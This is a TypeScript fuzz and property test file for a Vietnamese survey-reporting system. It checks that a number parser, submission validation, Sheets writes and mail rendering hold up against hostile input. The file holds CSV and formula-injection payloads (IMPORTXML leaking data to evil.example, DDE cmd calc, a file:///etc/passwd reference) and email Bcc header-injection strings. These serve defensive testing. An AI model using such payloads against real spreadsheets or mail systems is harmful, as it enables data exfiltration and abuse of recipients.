// Bad input: random, hostile and oversized answers get a clear outcome; nothing crashes, nothing becomes a formula or a header.
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Campaign } from '../forms/campaign.ts';
import { formatNumber } from '../forms/format.ts';
import { MalformedResponseError, rawFromResponse } from '../functions/core/answers.ts';
import { checkSubmission } from '../functions/core/check.ts';
import {
  MAX_TYPED_LENGTH,
  MAX_VALUE,
  type NumericKind,
  parseVietnameseNumber,
} from '../functions/core/numbers.ts';
import { type Decision, decide, type ResponseVersion } from '../functions/core/outcome.ts';
import {
  cleanText,
  type Finding,
  isUsableEmail,
  MAX_CONTACT_LENGTH,
  MAX_TEXT_LENGTH,
  noteId,
  parseSubmission,
  type RawSubmission,
} from '../functions/core/parse.ts';
import { reminderSlots } from '../functions/core/time.ts';
import { unitToken } from '../functions/core/token.ts';
import { memoryLogger } from '../functions/log.ts';
import { renderVerificationAlert } from '../functions/mail/alert.ts';
import { type ComposeContext, composeMail } from '../functions/mail/compose.ts';
import { recipients } from '../functions/mail/mailer.ts';
import { renderReminder } from '../functions/mail/reminder.ts';
import type { CellData, Request } from '../functions/sheet/cells.ts';
import { SHEET_ID } from '../functions/sheet/content.ts';
import { quoteSheet, type SheetLayout, sheetLayout, TAB } from '../functions/sheet/layout.ts';
import { planBatch } from '../functions/sheet/plan.ts';
import { type CellValue, parseState, type SheetState } from '../functions/sheet/state.ts';
import { type LocalMode, startLocalMode } from '../local/localmode.ts';
import { clientFor } from '../local/sheets/testing.ts';
import { submit } from './support/respondent.ts';
import { q7 } from './support/submissions.ts';

fc.configureGlobal({ seed: 42, numRuns: 300 });

const campaign = q7();
const SECRET = 'bad-input-secret-0123456789abcdef';
const KINDS: NumericKind[] = ['count', 'people', 'amount'];
const SLOT = reminderSlots(campaign)[0];
if (!SLOT) throw new Error('the campaign has no reminder slot');

/** A lone UTF-16 surrogate: text that cannot be encoded (cut emoji) must never be produced. */
const LONE_SURROGATE = /[\uD800-\uDFFF]/u;
const isWellFormed = (s: string) => !LONE_SURROGATE.test(s);
/** Line breaks a mail header must never carry (CR, LF, NEL, Unicode line/paragraph separators). */
const HEADER_BREAK = /[\r\n\u0085\u2028\u2029]/;

// ---------------------------------------------------------------------------------------------
// Arbitraries
// ---------------------------------------------------------------------------------------------

const fullWidth = (s: string) =>
  s.replace(/[0-9]/g, (d) => String.fromCharCode(0xff10 + Number(d))).replace(/\./g, '\uff0e');

const NUMBERISH_PIECES = [
  ...'0123456789',
  '０',
  '５',
  '９',
  '.',
  ',',
  ' ',
  '\u00a0',
  '\u202f',
  '\u2009',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u00ad',
  '-',
  '\u2212',
  '+',
  'triệu',
  'trie\u0323\u0302u',
  'tỷ',
  'tỉ',
  'nghìn',
  'ngàn',
  'k',
  'tr',
  'đồng',
  'đ',
  'vnđ',
  'người',
  'lớp',
  'cuộc',
  'không',
  'kho\u0302ng',
  'e',
  'E',
  '١',
  '٥',
  'Ω',
  'я',
  '中',
  '😀',
  '=',
  '@',
  '\t',
  '\r\n',
  '\u2028',
];

/** Strings built from digits, separators, Vietnamese words (NFC and NFD), invisible and foreign marks. */
const numberish = fc
  .array(fc.constantFrom(...NUMBERISH_PIECES), { maxLength: 14 })
  .map((parts) => parts.join(''));

/** Text from the whole of Unicode, well-formed (no lone surrogates), as Google can deliver it. */
const anyText = fc.string({ unit: 'grapheme', maxLength: 80 });
const binaryText = fc.string({ unit: 'binary', maxLength: 80 });
const loneSurrogates = fc.string({
  unit: fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)),
  maxLength: 5,
});

const huge = fc.bigInt({ min: 0n, max: 10n ** 40n }).map(String);
const negative = fc
  .tuple(fc.constantFrom('-', '\u2212', '- ', '\u2013'), fc.maxSafeNat())
  .map(([sign, n]) => `${sign}${formatNumber(n)}`);

const FORMULA_PAYLOADS = [
  '=IMPORTXML("http://evil.example/?leak="&A1,"//a")',
  '=HYPERLINK("http://evil.example","Bấm vào đây")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=WEBSERVICE("http://evil.example")',
  "='file:///etc/passwd'#$A1",
  '+84 909 123 456',
  '-',
  '=',
];

const payload = fc.oneof(
  fc.constantFrom(...FORMULA_PAYLOADS),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\t=', ' ='), anyText)
    .map(([p, rest]) => p + rest),
);

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

/** What a number error quotes back: the answer as typed, NFC, spaces collapsed, maybe shortened. */
function expectQuotes(message: string, raw: string) {
  const full = raw.normalize('NFC').replace(/\s+/g, ' ').trim();
  const lead = 'Bạn đã nhập "';
  expect(message.startsWith(lead)).toBe(true);
  const rest = message.slice(lead.length);
  if (rest.startsWith(`${full}"`)) return;
  // Shortened: a prefix of what was typed, at most 40 characters, then "…".
  const cut = rest.indexOf('…"');
  expect(cut).toBeGreaterThan(0);
  const prefix = rest.slice(0, cut);
  expect(full.startsWith(prefix)).toBe(true);
  expect(Array.from(prefix).length).toBeLessThanOrEqual(40);
}

function checkNumber(raw: string, kind: NumericKind) {
  const parsed = parseVietnameseNumber(raw, kind);
  if (parsed.ok) {
    if (parsed.value !== null) {
      expect(Number.isSafeInteger(parsed.value)).toBe(true);
      expect(parsed.value).toBeGreaterThanOrEqual(0);
      expect(parsed.value).toBeLessThanOrEqual(MAX_VALUE);
    }
    return parsed;
  }
  expect(parsed.message).toMatch(/Hãy nhập/);
  expect(parsed.message.length).toBeLessThan(500);
  expect(parsed.message.normalize('NFC')).toBe(parsed.message);
  if (isWellFormed(raw)) {
    expect(isWellFormed(parsed.message)).toBe(true);
    expectQuotes(parsed.message, raw);
  }
  return parsed;
}

function unitAt(i: number) {
  const u = campaign.units[i];
  if (!u) throw new Error('the campaign has too few units');
  return u;
}
const unitA = unitAt(0);
const unitB = unitAt(1);

const version = (n: number): ResponseVersion => ({
  responseId: `r${n}`,
  lastSubmittedTime: new Date(Date.UTC(2021, 9, 6, 1, 0, n)).toISOString(),
});

function reading(raw: RawSubmission, unitName: string | undefined, token: string | undefined) {
  return { unitName, token, raw, unknownQuestionIds: [] };
}

const tokenOf = (unitId: string) => unitToken(SECRET, campaign.id, unitId);

/** Every finding says where: a row ("Dòng …"), a section ("Mục …"), the contact or the album. */
function expectPlaced(f: Finding) {
  expect(f.message).toMatch(/^(Dòng \S+|Mục \S+|Thông tin đơn vị|Đường dẫn album)/);
  expect(f.message.normalize('NFC')).toBe(f.message);
  expect(isWellFormed(f.message)).toBe(true);
  expect(f.message.length).toBeLessThan(1000);
  if (f.rowId !== undefined) {
    expect(campaign.row(f.rowId) ?? campaign.section(f.rowId)).toBeDefined();
  }
}

/** A sheet state as sync would read it: every unit listed, nothing submitted yet. */
function emptyState(c: Campaign, layout: SheetLayout): SheetState {
  const p = layout.progress;
  const progress: CellValue[][] = c.units.map((u) => {
    const cells: CellValue[] = Array.from({ length: p.columns.length }, () => '');
    cells[p.col.id] = u.id;
    cells[p.col.name] = u.name;
    cells[p.col.group] = u.group;
    cells[p.col.emails] = `${u.id}@donvi.example`;
    cells[p.col.link] = `https://forms.example/${u.id}`;
    return cells;
  });
  const data: CellValue[][] = c.units.map((u) => [u.id, u.name]);
  const system: CellValue[][] = [['checkpoint', '']];
  return parseState(c, layout, [progress, data, [], system]);
}

function* cellsOf(requests: readonly Request[]): Generator<{ sheetId: number; cell: CellData }> {
  for (const r of requests) {
    const u = r.updateCells;
    if (!u) continue;
    for (const row of u.rows ?? []) {
      for (const cell of row.values ?? []) yield { sheetId: u.start?.sheetId ?? -1, cell };
    }
  }
}

/** planBatch writes only plain values: no request kind that could carry a formula, no formulaValue. */
function expectNoFormula(requests: readonly Request[]) {
  for (const r of requests) {
    expect(Object.keys(r).every((k) => k === 'updateCells' || k === 'appendDimension')).toBe(true);
  }
  expect(JSON.stringify(requests)).not.toContain('formulaValue');
  for (const { cell } of cellsOf(requests)) {
    const keys = Object.keys(cell.userEnteredValue ?? {});
    expect(keys.every((k) => k === 'stringValue' || k === 'numberValue')).toBe(true);
    const s = cell.userEnteredValue?.stringValue;
    if (s !== undefined && s !== null) expect(s.length).toBeLessThanOrEqual(50_000);
  }
}

const stringsIn = (requests: readonly Request[], sheetId: number) =>
  [...cellsOf(requests)]
    .filter((c) => c.sheetId === sheetId)
    .map((c) => c.cell.userEnteredValue?.stringValue)
    .filter((s): s is string => typeof s === 'string');

// ---------------------------------------------------------------------------------------------
// A) The number parser
// ---------------------------------------------------------------------------------------------

describe('parseVietnameseNumber over anything typed', () => {
  it('never throws; answers a safe non-negative integer, blank, or a Vietnamese message quoting the answer', () => {
    fc.assert(
      fc.property(
        fc.oneof(numberish, anyText, binaryText, loneSurrogates, huge, negative),
        fc.constantFrom(...KINDS),
        (raw, kind) => {
          checkNumber(raw, kind);
        },
      ),
      { numRuns: 3000 },
    );
    // An emoji or a combined letter where the quote is cut must not be split in half.
    for (const raw of [
      `${'a'.repeat(39)}😀x`,
      `${'1'.repeat(39)}👍🏽 người`,
      `${'x'.repeat(38)}😀😀😀`,
    ]) {
      for (const kind of KINDS) expect(checkNumber(raw, kind).ok).toBe(false);
    }
  });

  it('reads NFD, zero-width spaces, full-width digits and non-breaking spaces as the plain number', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 2_000_000_000 }), (n) => {
        const plain = formatNumber(n);
        const variants = [
          plain,
          fullWidth(plain),
          plain.replace(/\./g, '.\u200b'),
          `\ufeff${plain}\u200d`,
          plain.replace(/\./g, '\u00a0'),
          plain.replace(/\./g, '\u202f'),
          `${plain} người`.normalize('NFD'),
        ];
        for (const v of variants) expect(checkNumber(v, 'people')).toEqual({ ok: true, value: n });
        expect(checkNumber(`${plain} đồng`.normalize('NFD'), 'amount')).toEqual({
          ok: true,
          value: n,
        });
      }),
    );
    expect(checkNumber('1,5 triệu'.normalize('NFD'), 'amount')).toEqual({
      ok: true,
      value: 1_500_000,
    });
    expect(checkNumber('１．５００．０００ đ', 'amount')).toEqual({ ok: true, value: 1_500_000 });
  });

  it('refuses every negative number as negative, with a message', () => {
    fc.assert(
      fc.property(
        negative.filter((s) => !/^[-\u2212\u2013] ?0$/.test(s)),
        fc.constantFrom(...KINDS),
        (raw, kind) => {
          const parsed = checkNumber(raw, kind);
          expect(parsed.ok).toBe(false);
          if (!parsed.ok) {
            expect(parsed.problem).toBe('negative');
            expect(parsed.message).toContain('không được âm');
          }
        },
      ),
    );
  });

  it('refuses every number above 10^15 as too large, grouped or not, and never rounds it', () => {
    fc.assert(
      fc.property(
        fc.bigInt({ min: BigInt(MAX_VALUE) + 1n, max: 10n ** 60n }),
        fc.boolean(),
        (n, grouped) => {
          const raw = grouped ? n.toString().replace(/\B(?=(\d{3})+(?!\d))/g, '.') : n.toString();
          const parsed = checkNumber(raw, 'amount');
          expect(parsed.ok).toBe(false);
          if (!parsed.ok) expect(parsed.problem).toBe('too-large');
        },
      ),
    );
  });

  it('round-trips formatNumber(n) for every safe non-negative integer up to 10^15', () => {
    const upTo = fc.oneof(
      fc.integer({ min: 0, max: 100_000 }),
      fc.bigInt({ min: 0n, max: BigInt(MAX_VALUE) }).map(Number),
      fc.constant(MAX_VALUE),
    );
    fc.assert(
      fc.property(upTo, fc.constantFrom(...KINDS), (n, kind) => {
        expect(checkNumber(formatNumber(n), kind)).toEqual({ ok: true, value: n });
      }),
      { numRuns: 2000 },
    );
  });

  it('reads "1.500.000" style grouping with any thousands separator', () => {
    fc.assert(
      fc.property(
        fc.bigInt({ min: 1000n, max: BigInt(MAX_VALUE) }),
        fc.constantFrom('.', ' ', '\u00a0', '\u202f', '\u2009', ','),
        fc.constantFrom('', ' đồng', 'đ', ' VNĐ', ' đ'),
        (n, sep, suffix) => {
          const digits = n.toString();
          const groups = digits.replace(/\B(?=(\d{3})+(?!\d))/g, sep);
          // "1,500" alone is ambiguous (English decimal point); commas group only from 1,500,000.
          if (sep === ',' && digits.length <= 6) return;
          expect(checkNumber(`${groups}${suffix}`, 'amount')).toEqual({
            ok: true,
            value: Number(n),
          });
        },
      ),
    );
  });
});

// ---------------------------------------------------------------------------------------------
// A) Parsing and checking a whole submission
// ---------------------------------------------------------------------------------------------

const GATES = [
  'Có',
  'Không',
  'có',
  'KHÔNG',
  'Co',
  'khong',
  '',
  'Có'.normalize('NFD'),
  ' Có\u200b ',
  'x',
  'yes',
  'Có thể',
  '=1+1',
];

const answerText = fc.oneof(
  numberish,
  anyText,
  huge,
  negative,
  payload,
  fc.integer({ min: 0, max: 5000 }).map(String),
  fc.constant(''),
);

const rawSubmission: fc.Arbitrary<RawSubmission> = fc.record({
  activities: fc.record(
    Object.fromEntries(
      campaign.sections.map((s) => [s.id, fc.oneof(fc.constantFrom(...GATES), anyText)]),
    ),
    { requiredKeys: [] },
  ),
  answers: fc
    .tuple(
      fc.record(
        Object.fromEntries(
          [
            ...campaign.askedMeasures.map((m) => m.id),
            ...campaign.sections.filter((s) => s.note).map((s) => noteId(s.id)),
          ].map((k) => [k, answerText]),
        ),
        { requiredKeys: [] },
      ),
      fc.dictionary(
        fc.constantFrom('99.count', '1.count', 'x', '__proto__', 'constructor'),
        anyText,
      ),
    )
    .map(([known, unknown]) => ({ ...unknown, ...known })),
  contact: fc.record(
    { name: anyText, position: anyText, phone: payload, email: anyText },
    { requiredKeys: [] },
  ),
  albumUrl: fc.option(fc.oneof(anyText, payload, fc.webUrl()), { nil: undefined }),
});

describe('parseSubmission and checkSubmission over random answers', () => {
  it('never throw; every finding names its row, section, contact or album; values are safe integers or blank', () => {
    fc.assert(
      fc.property(rawSubmission, (raw) => {
        const { report, findings, ignored } = parseSubmission(campaign, raw);
        const checked = checkSubmission(campaign, raw);
        for (const f of [...findings, ...checked.errors, ...checked.warnings]) expectPlaced(f);
        for (const [id, v] of Object.entries(report.values)) {
          expect(campaign.measure(id)?.asked).toBe(true);
          if (v !== null) {
            expect(Number.isSafeInteger(v)).toBe(true);
            expect(v).toBeGreaterThanOrEqual(0);
            expect(v).toBeLessThanOrEqual(MAX_VALUE);
          }
        }
        // Unknown keys are reported, never counted.
        for (const k of ignored) expect(Object.hasOwn(report.values, k)).toBe(false);
        for (const k of ['99.count', '1.count', 'x']) {
          if (k in raw.answers) expect(ignored).toContain(k);
        }
        expect(report.contact.email === null || isUsableEmail(report.contact.email)).toBe(true);
      }),
      { numRuns: 400 },
    );
  });

  it('quotes long or odd answers in short, well-formed pieces (gate, email, album)', () => {
    const emoji = `${'a'.repeat(59)}😀@x.example`;
    const { findings } = parseSubmission(campaign, {
      activities: { '1': `${'Có thể '.repeat(100_000)}😀`, '2': `${'x'.repeat(39)}😀` },
      answers: {},
      contact: { email: emoji },
      albumUrl: `${'b'.repeat(59)}😀 không phải link`,
    });
    expect(findings.length).toBeGreaterThanOrEqual(4);
    for (const f of findings) expectPlaced(f);
  });

  it('accepts nothing that has an error: a verified unit is accepted exactly when there is no error', () => {
    fc.assert(
      fc.property(rawSubmission, (raw) => {
        const d = decide(campaign, SECRET, version(1), reading(raw, unitA.name, tokenOf(unitA.id)));
        const o = d.outcome;
        expect(o.kind === 'accepted' || o.kind === 'rejected').toBe(true);
        if (o.kind === 'accepted' || o.kind === 'rejected') {
          expect(o.kind === 'accepted').toBe(o.checked.errors.length === 0);
        }
      }),
      { numRuns: 300 },
    );
  });
});

// ---------------------------------------------------------------------------------------------
// A) Formulas and CSV injection never reach a sheet as a formula
// ---------------------------------------------------------------------------------------------

const TEXT_FIELDS = [
  '11.text',
  ...campaign.sections.filter((s) => s.note).map((s) => noteId(s.id)),
  'contact.name',
  'contact.position',
  'contact.phone',
  'album',
  'unitName',
  'respondentEmail',
] as const;

function withPayload(field: string, text: string): { raw: RawSubmission; unitName: string } {
  const answers: Record<string, string> = { '2.count': '3', '11.text': 'Triển lãm' };
  const activities: Record<string, string> = Object.fromEntries(
    campaign.sections.map((s) => [s.id, s.id === '2' || s.id === '11' ? 'Có' : 'Không']),
  );
  const contact: NonNullable<RawSubmission['contact']> = { name: 'Nguyễn Văn An' };
  let albumUrl: string | undefined;
  let unitName = unitA.name;
  if (field.startsWith('contact.')) contact[field.slice(8) as 'name'] = text;
  else if (field === 'album') albumUrl = text;
  else if (field === 'unitName') unitName = text;
  else if (field !== 'respondentEmail') {
    answers[field] = text;
    activities[field.split('.')[0] ?? ''] = 'Có';
  }
  return { raw: { activities, answers, contact, ...(albumUrl ? { albumUrl } : {}) }, unitName };
}

describe('formulas and CSV-injection payloads in every text field', () => {
  const layout = sheetLayout(campaign);
  const state = emptyState(campaign, layout);

  it('are planned as stringValue cells only, whatever the outcome, and kept as typed', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...TEXT_FIELDS),
        payload,
        fc.constantFrom('valid', 'forged', 'broken'),
        (field, text, how) => {
          const { raw, unitName } = withPayload(field, text);
          if (how === 'broken') raw.answers = { ...raw.answers, '2.count': text };
          const token = how === 'forged' ? 'AAAAAAAAAAAAAAAA' : tokenOf(unitA.id);
          const v = {
            ...version(2),
            ...(field === 'respondentEmail' ? { respondentEmail: text } : {}),
          };
          const decision: Decision = decide(campaign, SECRET, v, reading(raw, unitName, token));
          const plan = planBatch(
            campaign,
            layout,
            state,
            [decision],
            v.lastSubmittedTime,
            new Date(),
            'b1',
          );
          expectNoFormula(plan.requests);
          const cleaned = cleanText(text);
          if (decision.outcome.kind === 'accepted' && cleaned !== '') {
            const data = stringsIn(plan.requests, SHEET_ID.data);
            if (field === '11.text' || field.endsWith('.note')) expect(data).toContain(cleaned);
            if (field.startsWith('contact.')) expect(data).toContain(cleaned.replace(/\s+/g, ' '));
            if (field === 'album' && decision.outcome.checked.report.albumUrl)
              expect(data).toContain(decision.outcome.checked.report.albumUrl);
          }
          if (field === 'unitName' && text.trim() !== '') {
            expect(stringsIn(plan.requests, SHEET_ID.log)).toContain(text);
          }
        },
      ),
      { numRuns: 600 },
    );
  });
});

// ---------------------------------------------------------------------------------------------
// A) Header injection in names and emails
// ---------------------------------------------------------------------------------------------

const injected = fc.oneof(
  fc.constantFrom(
    '\r\nBcc: x@evil.example',
    '\nSubject: x',
    '\rBcc: x@evil.example',
    '\u2028Bcc: x@evil.example',
    '\u2029Subject: x',
    '\u0085Bcc: x@evil.example',
    '\r\n\r\n<html>x</html>',
  ),
  fc
    .tuple(fc.constantFrom('\r', '\n', '\r\n', '\u2028', '\u0085', '\v', '\f'), anyText)
    .map(([b, t]) => b + t),
);

describe('header injection in unit names, contact names and emails', () => {
  it('no rendered subject carries a line break, whatever the unit name', () => {
    fc.assert(
      fc.property(anyText, injected, anyText, (before, inj, after) => {
        const name = `${before}${inj}${after}`;
        const alert = renderVerificationAlert({
          campaign,
          unitTyped: name,
          reason: 'unknown-unit',
          responseId: 'r1',
          receivedAt: new Date(),
        });
        expect(alert.subject).not.toMatch(HEADER_BREAK);
        // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters.
        expect(alert.subject).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);

        const named = { ...unitA, name };
        const c = { ...campaign, units: [named] } as Campaign;
        const ctx: ComposeContext = {
          campaign: c,
          unit: () => ({ emails: ['a@donvi.example'], link: 'https://forms.example/a' }),
          previous: () => null,
          hadAccepted: () => false,
        };
        const raw: RawSubmission = {
          activities: { '2': 'Có' },
          answers: { '2.count': '3' },
          contact: { name, email: `victim@x.example${inj}` },
        };
        for (const token of [tokenOf(unitA.id), 'AAAAAAAAAAAAAAAA']) {
          const d = decide(c, SECRET, version(3), reading(raw, name, token));
          const mail = composeMail(ctx, d);
          if (mail) {
            expect(mail.subject).not.toMatch(HEADER_BREAK);
            for (const to of mail.to) {
              expect(to).not.toMatch(/\s/);
              expect(to).not.toContain('evil.example');
            }
          }
        }
        const reminder = renderReminder({
          campaign: c,
          unitName: name,
          slot: SLOT,
          personalLink: 'https://forms.example/a',
        });
        expect(reminder.subject).not.toMatch(HEADER_BREAK);
      }),
      { numRuns: 300 },
    );
  });

  it('an email field with a line break or a control character is never usable, nor a recipient', () => {
    fc.assert(
      fc.property(
        fc.emailAddress(),
        fc.integer({ min: 0, max: 0x9f }).filter((c) => c < 0x20 || c >= 0x7f),
        fc.nat({ max: 30 }),
        anyText,
        (email, code, at, tail) => {
          const i = Math.min(at, email.length);
          const bad = `${email.slice(0, i)}${String.fromCharCode(code)}${email.slice(i)}${tail}`;
          expect(isUsableEmail(bad)).toBe(false);
          expect(recipients([bad])).toEqual([]);
          const parsed = parseSubmission(campaign, {
            activities: {},
            answers: {},
            contact: { email: `victim@x.example\r\nBcc: all@evil.example${tail}` },
          });
          expect(parsed.report.contact.email).toBeNull();
        },
      ),
    );
    for (const bad of [
      'victim@x.example\r\nBcc: all@evil.example',
      'victim@x.example\nBcc:all@evil.example',
      'victim@x.example\u2028Bcc:all@evil.example',
      'vic\u0085tim@x.example',
      'vic\u0000tim@x.example',
      'victim@x.example, all@evil.example',
      '"all@evil.example" <victim@x.example>',
    ]) {
      expect(isUsableEmail(bad)).toBe(false);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// A) A 1 MB answer
// ---------------------------------------------------------------------------------------------

describe('a 1 MB answer', () => {
  const MB = 1 << 20;
  const huge1 = 'Tổ chức triển lãm sách. '.repeat(Math.ceil(MB / 24)).slice(0, MB);

  it('in a text field or a note: a clear "too long" error, the submission refused, nothing written beyond cell limits', () => {
    for (const field of [
      '11.text',
      '1.note',
      'contact.name',
      'contact.position',
      'contact.phone',
    ]) {
      const { raw } = withPayload(field, huge1);
      const d = decide(campaign, SECRET, version(4), reading(raw, unitA.name, tokenOf(unitA.id)));
      expect(d.outcome.kind).toBe('rejected');
      const errors = d.outcome.checked.errors;
      expect(errors.length).toBeGreaterThan(0);
      for (const e of errors) expectPlaced(e);
      // The length is checked before the text is kept anywhere, and the message names the limit.
      const limit = field.startsWith('contact.')
        ? `dài quá ${formatNumber(MAX_CONTACT_LENGTH)} ký tự`
        : `vượt quá ${formatNumber(MAX_TEXT_LENGTH)} ký tự`;
      expect(errors.map((e) => e.message).join('\n')).toContain(limit);
      const layout = sheetLayout(campaign);
      const plan = planBatch(
        campaign,
        layout,
        emptyState(campaign, layout),
        [d],
        undefined,
        new Date(),
        'b',
      );
      expectNoFormula(plan.requests);
    }
  });

  it('in a number field: refused by its length, as too large or too long, with a clear message', () => {
    const tooLarge = 'số quá lớn';
    const tooLong = 'câu trả lời quá dài, đây không phải là một số';
    const refusal = (raw: string, kind: NumericKind) => {
      const parsed = checkNumber(raw, kind);
      return parsed.ok ? `accepted as ${parsed.value}` : parsed.message;
    };
    const inputs: [string, string][] = [
      ['1'.repeat(MB), tooLarge],
      ['1.000'.repeat(MB / 5), tooLarge],
      ['1 '.repeat(MB / 2), tooLarge],
      ['a'.repeat(MB), tooLong],
      // A megabyte of spaces collapses to one: what is left, "1 a", is short and read as usual.
      [`1${' '.repeat(MB)}a`, 'không hiểu chữ "a"'],
      ['1a'.repeat(MB / 2), tooLong],
      [`${'1'.repeat(MB / 2)} triệu`, tooLong],
    ];
    for (const [raw, why] of inputs) {
      for (const kind of KINDS) expect(refusal(raw, kind)).toContain(why);
    }
    // The bound is MAX_TYPED_LENGTH characters: up to it the patterns read the answer; one more
    // and it is refused for its length alone, so a pasted megabyte never reaches a pattern.
    const atBound = refusal('a'.repeat(MAX_TYPED_LENGTH), 'count');
    expect(atBound).toContain('đây không phải là một số');
    expect(atBound).not.toContain(tooLong);
    expect(refusal('a'.repeat(MAX_TYPED_LENGTH + 1), 'count')).toContain(tooLong);
    const d = decide(
      campaign,
      SECRET,
      version(5),
      reading(withPayload('2.count', '9'.repeat(MB)).raw, unitA.name, tokenOf(unitA.id)),
    );
    expect(d.outcome.kind).toBe('rejected');
    expect(d.outcome.checked.errors.map((e) => e.message).join('\n')).toMatch(
      /Dòng 2 .*số quá lớn/,
    );
  });

  it('in the album link or the email: a warning quoting a short part, the rest stays counted', () => {
    const { raw } = withPayload('album', `https://x.example/${'a'.repeat(MB)}`);
    raw.contact = { ...raw.contact, email: `${'a'.repeat(MB)}@x.example` };
    const d = decide(campaign, SECRET, version(6), reading(raw, unitA.name, tokenOf(unitA.id)));
    expect(d.outcome.kind).toBe('accepted');
    for (const w of d.outcome.checked.warnings) expectPlaced(w);
    expect(d.outcome.checked.report.albumUrl).toBeNull();
    expect(d.outcome.checked.report.contact.email).toBeNull();
  });
});

// ---------------------------------------------------------------------------------------------
// A) Unknown question ids and missing required answers
// ---------------------------------------------------------------------------------------------

describe('responses with unknown questions or missing required answers', () => {
  it('lists unknown question ids, never counts them, and never throws on any response shape', () => {
    const unknownId = fc.stringMatching(/^[0-9a-f]{8}$/);
    fc.assert(
      fc.property(fc.dictionary(unknownId, fc.array(anyText, { maxLength: 3 })), (extra) => {
        const answers = Object.fromEntries(
          Object.entries(extra).map(([id, values]) => [
            id,
            { questionId: id, textAnswers: { answers: values.map((value) => ({ value })) } },
          ]),
        );
        const r = rawFromResponse(campaign, { responseId: 'r', answers });
        expect([...r.unknownQuestionIds].sort()).toEqual(
          Object.keys(extra)
            .map((k) => k.toLowerCase())
            .sort(),
        );
        expect(r.raw.answers).toEqual({});
        const d = decide(campaign, SECRET, version(7), r);
        expect(d.outcome.kind).toBe('awaiting');
        for (const v of Object.values(d.outcome.checked.report.values))
          expect(v === 0 || v === null).toBe(true);
      }),
      { numRuns: 200 },
    );
    fc.assert(
      fc.property(fc.anything(), (junk) => {
        try {
          rawFromResponse(campaign, junk);
        } catch (error) {
          expect(error).toBeInstanceOf(MalformedResponseError);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('a response without unit, code or gates is held or refused with a clear message, never counted', () => {
    const layout = sheetLayout(campaign);
    const state = emptyState(campaign, layout);
    const empty = rawFromResponse(campaign, { responseId: 'empty' });
    const noUnit = decide(campaign, SECRET, version(8), empty);
    expect(noUnit.outcome).toMatchObject({ kind: 'awaiting', reason: 'unknown-unit' });
    const noToken = decide(campaign, SECRET, version(9), { ...empty, unitName: unitB.name });
    expect(noToken.outcome).toMatchObject({ kind: 'awaiting', reason: 'token-mismatch' });
    const noGates = decide(campaign, SECRET, version(10), {
      ...empty,
      unitName: unitB.name,
      token: tokenOf(unitB.id),
    });
    expect(noGates.outcome.kind).toBe('rejected');
    const messages = noGates.outcome.checked.errors.map((e) => e.message);
    expect(messages).toHaveLength(campaign.sections.length);
    for (const e of noGates.outcome.checked.errors) expectPlaced(e);
    expect(messages[0]).toMatch(/^Mục 1 .*chưa chọn "Có" hoặc "Không"/);

    const plan = planBatch(
      campaign,
      layout,
      state,
      [noUnit, noToken, noGates],
      undefined,
      new Date(),
      'b',
    );
    expectNoFormula(plan.requests);
    // Nothing lands in "Số liệu": none of them is counted.
    expect([...cellsOf(plan.requests)].filter((c) => c.sheetId === SHEET_ID.data)).toEqual([]);
    expect(plan.acceptedUnits).toEqual([]);
    expect(plan.logs).toHaveLength(3);
  });
});

// ---------------------------------------------------------------------------------------------
// End to end through local mode: formulas stay text, headers stay single
// ---------------------------------------------------------------------------------------------

describe('end to end in local mode', () => {
  let local: LocalMode;
  beforeAll(async () => {
    local = await startLocalMode({ sync: { burst: 100, refillMs: 0 }, log: memoryLogger() });
  }, 60_000);
  afterAll(() => local?.close());

  const linkOf = (unitId: string) =>
    local.endpoints.links.find((l) => l.unitId === unitId)?.link ?? '';
  const api = () => clientFor(local.standIns.sheets.url);
  async function tab(name: string, render: 'UNFORMATTED_VALUE' | 'FORMULA') {
    const res = await api().spreadsheets.values.get({
      spreadsheetId: local.state.spreadsheetId,
      range: quoteSheet(name),
      valueRenderOption: render,
    });
    return (res.data.values ?? []) as (string | number)[][];
  }

  it('a sample of payloads reaches "Số liệu" and "Nhật ký" as text, equal to what was typed', async () => {
    const unitId = 'p-tan-phong';
    const typed = {
      '11.text': '=IMPORTXML("http://evil.example/?leak="&A1,"//a")',
      '1.note': '=HYPERLINK("http://evil.example","Bấm vào đây")',
      '2.note': "=cmd|' /C calc'!A0",
      '3.note': '@SUM(1+1)',
      '10.note': '-2+3',
      'contact.name': "+cmd|' /C calc'!A0",
      'contact.position': '=1+1',
      'contact.phone': '+84 909 123 456',
      album: 'https://evil.example/=IMPORTXML(A1)',
    };
    await submit(local.campaign, linkOf(unitId), {
      answers: {
        '1.1.count': '2',
        '1.1.people': '40',
        '2.count': '3',
        '3.count': '4',
        '10.1.amount': '1.500.000',
        '11.text': typed['11.text'],
        '1.note': typed['1.note'],
        '2.note': typed['2.note'],
        '3.note': typed['3.note'],
        '10.note': typed['10.note'],
      },
      contact: {
        name: typed['contact.name'],
        position: typed['contact.position'],
        phone: typed['contact.phone'],
      },
      albumUrl: typed.album,
    });
    await local.standIns.forms.flushDeliveries();
    await local.runtime.sync('manual');
    const layout = sheetLayout(local.campaign);
    const keys = Object.keys(typed) as (keyof typeof typed)[];
    for (const render of ['FORMULA', 'UNFORMATTED_VALUE'] as const) {
      const row = (await tab(TAB.data, render)).find((r) => r[0] === unitId) ?? [];
      for (const key of keys) {
        const col = layout.data.col[key === 'album' ? 'album' : key];
        expect([key, row[col ?? -1]]).toEqual([key, typed[key]]);
      }
      const log = (await tab(TAB.log, render)).find((r) => r[layout.log.col.unitId] === unitId);
      const rawCell = String(log?.[layout.log.col.raw] ?? '');
      expect(rawCell.startsWith('{')).toBe(true);
      const json = JSON.parse(rawCell) as {
        answers: Record<string, string>;
        contact: Record<string, string>;
        albumUrl: string;
      };
